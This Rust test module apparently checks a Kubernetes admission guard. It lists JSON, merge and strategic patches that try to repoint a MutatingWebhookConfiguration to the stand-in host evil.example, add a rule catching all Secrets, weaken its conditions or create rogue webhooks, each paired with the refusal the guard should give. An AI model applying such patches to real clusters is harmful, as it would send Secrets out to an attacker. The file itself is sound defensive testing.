//! Attempts on webhook configurations: an account that may change one can have every written Secret sent
//! to an address of its choice.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use rcgen::{CertificateParams, KeyPair};
use serde_json::{Value, json};

use super::request::{
    REGISTRATION, Row, Verdict, apply, delete, get, json_patch, merge_patch, post, put_as_stored,
    strategic_patch,
};
use super::scene::{OTHERS, Scene, WEBHOOKS};

// Ends of the guard's sentences.
const HOOK: &str = "changes nothing in its webhook configuration but caBundle";
const LIST: &str = "but caBundle, not the list of webhooks";
const METADATA: &str = "but caBundle, not its metadata";
const NAME: &str = "writes no webhook configuration but zz-ecr-pull-secrets";
const NEITHER: &str = "neither creates nor deletes webhook configurations";

const EVIL: &str = "https://evil.example/x";

/// Path of our registration.
pub fn ours() -> String {
    format!("{WEBHOOKS}/zz-ecr-pull-secrets")
}

/// Attempts to point it to another address or resource.
pub fn url() -> Row {
    let patch = json!([
        { "op": "remove", "path": "/webhooks/0/clientConfig/service" },
        { "op": "add", "path": "/webhooks/0/clientConfig/url", "value": EVIL },
    ]);
    json_patch("url instead of service", &ours(), patch).guarded(REGISTRATION, HOOK)
}

/// All attempts.
pub fn rows(scene: &Scene) -> Vec<Row> {
    let mut rows = vec![url()];
    rows.extend(one_operation(scene));
    rows.extend(other_patches());
    rows.extend(ca_bundle());
    rows.extend(other_verbs());
    rows
}

fn one_operation(scene: &Scene) -> Vec<Row> {
    let secrets = json!({
        "apiGroups": [""],
        "apiVersions": ["v1"],
        "resources": ["secrets"],
        "operations": ["*"],
        "scope": "*",
    });
    let inject = json!({ "cert-manager.io/inject-ca-from": "evil/x" });
    let owner = json!([{
        "apiVersion": "v1",
        "kind": "Namespace",
        "name": scene.victim,
        "uid": "7a3c0f4e-0000-4000-8000-000000000000",
    }]);
    let hook = [
        (
            "service name",
            "replace",
            "clientConfig/service/name",
            json!("evil"),
            HOOK,
        ),
        (
            "service namespace",
            "replace",
            "clientConfig/service/namespace",
            json!("evil"),
            HOOK,
        ),
        (
            "path",
            "replace",
            "clientConfig/service/path",
            json!("/x"),
            HOOK,
        ),
        (
            "port",
            "replace",
            "clientConfig/service/port",
            json!(444),
            HOOK,
        ),
        ("rule for Secrets", "add", "rules/-", secrets, HOOK),
        (
            "rule's operation",
            "replace",
            "rules/0/operations",
            json!(["*"]),
            HOOK,
        ),
        ("rule's scope", "replace", "rules/0/scope", json!("*"), HOOK),
        ("rule removed", "remove", "rules/0", Value::Null, HOOK),
        (
            "condition removed",
            "remove",
            "matchConditions/1",
            Value::Null,
            HOOK,
        ),
        (
            "conditions removed",
            "remove",
            "matchConditions",
            Value::Null,
            HOOK,
        ),
        (
            "condition weakened",
            "replace",
            "matchConditions/1/expression",
            json!("true"),
            HOOK,
        ),
        (
            "namespaceSelector",
            "replace",
            "namespaceSelector",
            json!({}),
            HOOK,
        ),
        (
            "objectSelector",
            "replace",
            "objectSelector",
            json!({}),
            HOOK,
        ),
        (
            "failurePolicy",
            "replace",
            "failurePolicy",
            json!("Fail"),
            HOOK,
        ),
        (
            "timeoutSeconds",
            "replace",
            "timeoutSeconds",
            json!(30),
            HOOK,
        ),
        ("sideEffects", "replace", "sideEffects", json!("None"), HOOK),
        (
            "reinvocationPolicy",
            "replace",
            "reinvocationPolicy",
            json!("Never"),
            HOOK,
        ),
        (
            "matchPolicy",
            "replace",
            "matchPolicy",
            json!("Exact"),
            HOOK,
        ),
        (
            "admissionReviewVersions",
            "add",
            "admissionReviewVersions/-",
            json!("v1beta1"),
            HOOK,
        ),
        (
            "webhook renamed",
            "replace",
            "name",
            json!("pods2.ecr-pull-secrets.dev"),
            LIST,
        ),
    ];
    let whole = [
        (
            "all webhooks removed",
            "remove",
            "/webhooks",
            Value::Null,
            LIST,
        ),
        (
            "one webhook removed",
            "remove",
            "/webhooks/0",
            Value::Null,
            LIST,
        ),
        ("label", "add", "/metadata/labels/x", json!("y"), METADATA),
        (
            "labels removed",
            "remove",
            "/metadata/labels",
            Value::Null,
            METADATA,
        ),
        (
            "annotation of cert-manager",
            "add",
            "/metadata/annotations",
            inject,
            METADATA,
        ),
        ("owner", "add", "/metadata/ownerReferences", owner, METADATA),
        (
            "finalizer",
            "add",
            "/metadata/finalizers",
            json!(["x.io/y"]),
            METADATA,
        ),
    ];
    hook.into_iter()
        .map(|(attempt, op, path, value, says)| {
            (attempt, op, format!("/webhooks/0/{path}"), value, says)
        })
        .chain(
            whole.into_iter().map(|(attempt, op, path, value, says)| {
                (attempt, op, path.to_owned(), value, says)
            }),
        )
        .map(|(attempt, op, path, value, says)| {
            let mut operation = json!({ "op": op, "path": path });
            if !value.is_null() {
                operation["value"] = value;
            }
            json_patch(attempt, &ours(), json!([operation])).guarded(REGISTRATION, says)
        })
        .collect()
}

fn other_patches() -> Vec<Row> {
    let second = |last: Option<Value>| {
        // The chart has one webhook, so that the copy is the second.
        let mut operations = vec![
            json!({ "op": "copy", "from": "/webhooks/0", "path": "/webhooks/-" }),
            json!({ "op": "replace", "path": "/webhooks/1/name", "value": "b.ecr-pull-secrets.dev" }),
        ];
        operations.extend(last);
        Value::Array(operations)
    };
    let empty_bundle =
        json!({ "op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": "" });
    let mut applied = configuration("zz-ecr-pull-secrets");
    applied["webhooks"] = json!([evil_webhook("b.evil.dev")]);
    let merged = json!({ "webhooks": [evil_webhook("pods.ecr-pull-secrets.dev")] });
    let client = json!({ "$retainKeys": ["url"], "url": EVIL });
    let strategic = json!({
        "webhooks": [{ "name": "pods.ecr-pull-secrets.dev", "clientConfig": client }],
    });
    vec![
        json_patch("second webhook", &ours(), second(None)).guarded(REGISTRATION, LIST),
        json_patch(
            "second webhook, caBundle too",
            &ours(),
            second(Some(empty_bundle)),
        )
        .guarded(REGISTRATION, LIST),
        apply("apply, an entry of another name", &ours(), applied).guarded(REGISTRATION, LIST),
        merge_patch("merge patch, all in one", &ours(), merged).guarded(REGISTRATION, HOOK),
        strategic_patch("strategic patch, url", &ours(), strategic).guarded(REGISTRATION, HOOK),
    ]
}

/// Changes that the program makes, and may make.
fn ca_bundle() -> Vec<Row> {
    let key = KeyPair::generate().unwrap();
    let certificate = CertificateParams::new(vec![]).unwrap().self_signed(&key);
    let bundle = BASE64_STANDARD.encode(certificate.unwrap().pem());
    let test = json!({
        "op": "test",
        "path": "/webhooks/0/name",
        "value": "pods.ecr-pull-secrets.dev",
    });
    let set = json!({
        "op": "add",
        "path": "/webhooks/0/clientConfig/caBundle",
        "value": bundle,
    });
    vec![
        json_patch("caBundle", &ours(), json!([test, set])).allowed(),
        // Nothing changes.
        json_patch("the test alone", &ours(), json!([test])).allowed(),
    ]
}

fn other_verbs() -> Vec<Row> {
    let another = format!("{WEBHOOKS}/yy");
    let others = format!("{WEBHOOKS}/{OTHERS}");
    let label = json!({ "metadata": { "labels": { "x": "y" } } });
    let mut evil = configuration("yy");
    evil["webhooks"] = json!([evil_webhook("b.evil.dev")]);
    let mut validating = configuration("yy");
    validating["kind"] = json!("ValidatingWebhookConfiguration");
    let neither = Verdict::Guard(REGISTRATION, NEITHER);
    vec![
        put_as_stored("PUT", &ours()).no_right(Verdict::Allowed),
        delete("delete", &ours()).no_right(neither.clone()),
        delete("delete all", WEBHOOKS).no_right(neither.clone()),
        post("create another", WEBHOOKS, evil).no_right(neither.clone()),
        apply("create another by apply", &another, configuration("yy")).no_right(neither),
        merge_patch("patch another", &others, label).no_right(Verdict::Guard(REGISTRATION, NAME)),
        get("list all", WEBHOOKS).no_right(Verdict::Allowed),
        get(
            "list by name",
            &format!("{WEBHOOKS}?fieldSelector=metadata.name%3Dzz-ecr-pull-secrets"),
        )
        .allowed(),
        post(
            "a ValidatingWebhookConfiguration",
            "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
            validating,
        )
        .further_right(Verdict::Allowed),
    ]
}

fn configuration(name: &str) -> Value {
    json!({
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "MutatingWebhookConfiguration",
        "metadata": { "name": name },
    })
}

fn evil_webhook(name: &str) -> Value {
    json!({
        "name": name,
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "clientConfig": { "url": EVIL },
    })
}
